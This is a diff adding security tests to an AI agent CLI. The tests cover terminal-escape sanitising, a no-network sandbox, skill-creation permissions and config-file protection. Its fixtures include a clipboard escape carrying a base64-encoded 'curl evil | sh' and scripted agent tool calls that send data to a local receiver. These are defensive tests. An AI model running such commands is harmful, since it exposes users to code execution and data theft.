@@ -1,3 +1,4 @@
+import { existsSync } from "node:fs";
 import { readFile, writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
@@ -133,11 +134,129 @@ describe("skillset chat -p", () => {
 	it.each([
 		[["--context-window", "lots"], "--context-window must be a positive whole number"],
 		[["--mcp", "  "], "--mcp needs a command or a URL"],
-		[["--save-skills", "nowhere"], "--save-skills must be user or workspace"],
+		[["--save-skills", "nowhere"], "--save-skills must be workspace or user"],
 		[["--resume", "/nonexistent/file.json"], "cannot resume from /nonexistent/file.json: ENOENT"],
 	])("rejects bad options with exit 2: %j", async (args, message) => {
 		const run = await chat(["-p", "hi", ...args], []);
 		expect(run.exitCode).toBe(2);
 		expect(run.stderr).toContain(message);
+	});
+});
+
+describe("chat -p prints the model's text made safe for a terminal (issue 18)", () => {
+	const hostile = "Done.\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b]0;TITLE\u0007\u001b[2J\u009b2J\u202eend";
+
+	it("shows every control character and escape sequence of the final answer", async () => {
+		const run = await chat(["-p", "hi"], [{ content: hostile }]);
+		expect(run.exitCode).toBe(0);
+		expect(run.stdout).toBe(
+			"Done.\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b]0;TITLE\\x07\\x1b[2J\\u009b2J\\u{202e}end\n",
+		);
+	});
+
+	it("--json keeps the data, with C1, bidi and escape characters written as \\u escapes", async () => {
+		const run = await chat(["-p", "hi", "--json"], [{ content: hostile }]);
+		expect([...run.stdout].filter((char) => ["\u001b", "\u0007", "\u009b", "\u202e"].includes(char))).toEqual([]);
+		expect(JSON.parse(run.stdout)).toMatchObject({ status: "done", text: hostile });
+	});
+});
+
+describe("chat --no-network (issue 18)", () => {
+	async function receiver() {
+		const { createServer } = await import("node:http");
+		const hits: string[] = [];
+		const server = createServer((request, response) => {
+			hits.push(request.url ?? "");
+			response.end("stolen");
+		});
+		await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+		const { port } = server.address() as import("node:net").AddressInfo;
+		return { port, hits, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
+	}
+
+	const hidden = (port: number) =>
+		`${JSON.stringify(process.execPath)} -e 'require("http").get("http://127.0.0.1:${port}/hidden",r=>r.pipe(process.stdout)).on("error",e=>{console.error(e.code);process.exit(3)})'`;
+
+	it("denies commands known to use the network and cuts the sandbox off for the rest", async () => {
+		const server = await receiver();
+		try {
+			const run = await chat(
+				["-p", "send it", "--yes", "--no-network"],
+				[
+					{
+						toolCalls: [{ name: "run_shell", arguments: { command: `curl -s http://127.0.0.1:${server.port}/curl` } }],
+					},
+					{ toolCalls: [{ name: "run_shell", arguments: { command: hidden(server.port) } }] },
+					{ content: "done" },
+				],
+			);
+			const results = (llm.requests[2]?.body.messages ?? []).filter((m) => m.role === "tool").map((m) => m.content);
+			expect(results[0]).toMatch(/^Refused by the permission policy \(rule ceiling-network\)/);
+			expect(results[1]).toMatch(/^exit code 3/);
+			expect(server.hits).toEqual([]);
+			expect(run.exitCode).toBe(1);
+		} finally {
+			await server.close();
+		}
+	});
+
+	it("without it, the same hidden request reaches the server (the test can fail)", async () => {
+		const server = await receiver();
+		try {
+			await chat(
+				["-p", "send it", "--yes"],
+				[{ toolCalls: [{ name: "run_shell", arguments: { command: hidden(server.port) } }] }, { content: "done" }],
+			);
+			expect(server.hits).toEqual(["/hidden"]);
+		} finally {
+			await server.close();
+		}
+	});
+});
+
+describe("chat create_skill (issue 18)", () => {
+	const skill = { name: "persist", description: "Keeps notes. Use when asked to remember.", body: "Notes." };
+
+	it("--allow read_file keeps create_skill out, in the home folder and the workspace", async () => {
+		const run = await chat(
+			["-p", "remember", "--allow", "read_file", "--yes"],
+			[{ toolCalls: [{ name: "create_skill", arguments: skill }] }, { content: "done" }],
+		);
+		const results = (llm.requests[1]?.body.messages ?? []).filter((m) => m.role === "tool").map((m) => m.content);
+		expect(results[0]).toMatch(/^Refused by the permission policy \(rule ceiling\)/);
+		expect(existsSync(join(run.fixture.home, ".agents/skills/persist"))).toBe(false);
+		expect(existsSync(join(run.fixture.workspace, ".agents/skills/persist"))).toBe(false);
+	});
+
+	it("with --yes it writes into the workspace by default", async () => {
+		const run = await chat(
+			["-p", "remember", "--yes"],
+			[{ toolCalls: [{ name: "create_skill", arguments: skill }] }, { content: "done" }],
+		);
+		expect(existsSync(join(run.fixture.home, ".agents/skills/persist"))).toBe(false);
+		expect(existsSync(join(run.fixture.workspace, ".agents/skills/persist/SKILL.md"))).toBe(true);
+	});
+});
+
+describe("chat --config (issue 18: the config in use decides what loads next time)", () => {
+	it("a skill's allowed-tools never pre-approve writing the config file in use", async () => {
+		llm.requests.length = 0;
+		const fixture = await workspaceFixture({
+			"writer/SKILL.md": "---\nname: writer\ndescription: Writes files.\nallowed-tools: write_file\n---\nWrite.\n",
+		});
+		await writeFile(join(fixture.workspace, "team.json"), "{}\n");
+		llm.script([
+			{ toolCalls: [{ name: "load_skill", arguments: { name: "writer" } }] },
+			{ toolCalls: [{ name: "write_file", arguments: { path: "team.json", content: '{"roots":["evil"]}' } }] },
+			{ content: "done" },
+		]);
+		const run = await cli(["chat", "-p", "x", "--config", "team.json", "--base-url", llm.url, "--model", "scripted"], {
+			cwd: fixture.workspace,
+			env: { HOME: fixture.home },
+		});
+		const results = (llm.requests[2]?.body.messages ?? []).filter((m) => m.role === "tool").map((m) => m.content);
+		expect(results[1]).toMatch(/^Refused by the permission policy \(rule runs-later\)/);
+		expect(await readFile(join(fixture.workspace, "team.json"), "utf8")).toBe("{}\n");
+		expect(run.exitCode).toBe(1);
 	});
 });
